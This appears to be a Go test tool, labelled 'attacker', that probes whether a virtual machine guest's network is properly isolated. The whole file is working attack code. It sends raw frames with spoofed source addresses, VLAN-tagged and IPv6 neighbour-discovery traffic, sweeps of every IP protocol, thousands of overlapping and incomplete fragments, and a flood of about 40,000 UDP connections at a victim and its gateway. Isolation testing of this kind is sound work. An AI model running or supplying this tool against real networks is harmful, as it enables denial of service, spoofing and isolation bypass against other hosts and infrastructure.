// Sends from inside a guest what no guest should: floods, pieces, other protocols, IPv6, tags, nonsense.
// Usage: attacker DEVICE OWN-ADDRESS VICTIM GATEWAY UDP-PORT
package main

import (
	"encoding/binary"
	"fmt"
	"math/rand"
	"net"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

var broadcast = []byte{255, 255, 255, 255, 255, 255}

func main() {
	device, err := net.InterfaceByName(os.Args[1])
	if err != nil {
		panic(err)
	}
	own, victim, gateway := address(os.Args[2]), address(os.Args[3]), address(os.Args[4])
	port, _ := strconv.Atoi(os.Args[5])
	socket, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0x0300)
	if err != nil {
		panic(err)
	}
	next := neighbour(os.Args[3])
	to := &syscall.SockaddrLinklayer{Ifindex: device.Index, Halen: 6}
	counts := map[string]int{}
	send := func(kind string, target []byte, ethertype uint16, payload []byte) {
		frame := append(append(append([]byte{}, target...), device.HardwareAddr...), byte(ethertype>>8), byte(ethertype))
		if syscall.Sendto(socket, append(frame, payload...), 0, to) == nil {
			counts[kind]++
		}
	}
	ip := func(kind string, from, dest []byte, protocol byte, fragment uint16, payload []byte) {
		send(kind, next, 0x0800, packet(from, dest, protocol, fragment, payload))
	}

	for id := 0; id < 40; id++ {
		v6 := icmpv6(byte(133+id%5), id)
		send("ipv6", []byte{0x33, 0x33, 0, 0, 0, 1}, 0x86dd, v6)
		send("ipv6", broadcast, 0x86dd, v6)
		send("ipv6", next, 0x86dd, v6)
		tagged := append([]byte{0, byte(id), 8, 0}, packet(own, victim, 17, 0, datagram(9, 80))...)
		send("tagged", next, 0x8100, tagged)
		send("tagged", next, 0x88a8, tagged)
		send("other", []byte{1, 0x80, 0xc2, 0, 0, 14}, 0x88cc, random(60))
		send("other", next, uint16(rand.Intn(65536)), random(1+rand.Intn(1400)))
		send("other", broadcast, 0x0806, random(28))
		for _, from := range [][]byte{victim, gateway, {127, 0, 0, 1}, {0, 0, 0, 0}, {255, 255, 255, 255}, {224, 0, 0, 1}} {
			ip("forged", from, victim, 6, 0, segment(80))
			ip("forged", from, gateway, 17, 0, datagram(68, 67))
		}
	}
	for protocol := 0; protocol < 256; protocol++ {
		ip("protocols", own, victim, byte(protocol), 0, random(40))
		ip("protocols", own, gateway, byte(protocol), 0, random(40))
	}
	for id := 0; id < 4000; id++ {
		more := uint16(0x2000)
		ip("pieces", own, victim, 17, more, random(1200))               // the rest never comes
		ip("pieces", own, victim, 17, more|uint16(id%185), random(160)) // on top of others
		ip("pieces", own, victim, 17, uint16(8189), random(1400))       // beyond the end
	}
	began := time.Now()
	for from := 1; from < 40000; from++ {
		ip("connections", own, victim, 17, 0, datagram(from, port))
	}
	fmt.Println(counts, "connections in", time.Since(began))
}

// packet writes an IPv4 packet; its first payload bytes are whatever the protocol says.
func packet(from, dest []byte, protocol byte, fragment uint16, payload []byte) []byte {
	header := make([]byte, 20)
	header[0] = 0x45
	binary.BigEndian.PutUint16(header[2:], uint16(20+len(payload)))
	binary.BigEndian.PutUint16(header[4:], uint16(rand.Intn(65536)))
	binary.BigEndian.PutUint16(header[6:], fragment)
	header[8], header[9] = 64, protocol
	copy(header[12:], from)
	copy(header[16:], dest)
	binary.BigEndian.PutUint16(header[10:], checksum(header))
	return append(header, payload...)
}

func datagram(from, to int) []byte {
	return []byte{byte(from >> 8), byte(from), byte(to >> 8), byte(to), 0, 9, 0, 0, 'x'}
}

func segment(to int) []byte {
	start := make([]byte, 20)
	copy(start, []byte{0x30, 0x39, byte(to >> 8), byte(to)})
	start[12], start[13] = 0x50, 2
	return start
}

func icmpv6(kind byte, id int) []byte {
	message := append([]byte{kind, 0, 0, 0}, random(24)...)
	header := make([]byte, 40)
	header[0] = 0x60
	binary.BigEndian.PutUint16(header[4:], uint16(len(message)))
	header[6], header[7] = 58, 255
	copy(header[8:], net.ParseIP([]string{"fe80::bad", "::ffff:10.83.6.2", "::1"}[id%3]).To16())
	copy(header[24:], net.ParseIP([]string{"ff02::1", "::ffff:10.83.6.2"}[id%2]).To16())
	return append(header, message...)
}

func checksum(header []byte) uint16 {
	sum := uint32(0)
	for i := 0; i < len(header); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(header[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

func random(length int) []byte {
	bytes := make([]byte, length)
	rand.Read(bytes)
	return bytes
}

func address(text string) []byte {
	return net.ParseIP(text).To4()
}

// neighbour asks the kernel who answers for an address.
func neighbour(text string) []byte {
	for attempt := 0; attempt < 100; attempt++ {
		if knock, err := net.Dial("udp", text+":9"); err == nil {
			_, _ = knock.Write([]byte("x"))
			knock.Close()
		}
		table, _ := os.ReadFile("/proc/net/arp")
		for _, line := range strings.Split(string(table), "\n") {
			fields := strings.Fields(line)
			if len(fields) > 3 && fields[0] == text && fields[3] != "00:00:00:00:00:00" {
				mac, _ := net.ParseMAC(fields[3])
				return mac
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
	panic("nobody answers for " + text)
}
